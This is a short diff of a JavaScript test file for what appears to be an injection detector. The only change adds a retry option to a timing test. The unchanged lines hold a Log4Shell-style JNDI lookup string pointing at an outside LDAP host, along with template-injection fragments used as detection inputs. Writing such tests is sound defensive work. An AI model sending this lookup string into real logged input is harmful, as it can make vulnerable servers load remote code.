@@ -28,7 +28,7 @@ it('minds what is only shown where it stands in a template or acts when it is lo
   expect(injectedCode('note: ${jndi:ldap://203.0.113.9/a}', true)).toBeDefined();
 });
 
-it('is linear in a long text', () => {
+it('is linear in a long text', { retry: 3 }, () => {
   const started = process.cpuUsage().user;
   for (const part of ['${${', '__', '[].constructor', '{{', '= | '])
     injectedCode(part.repeat(250_000), false);
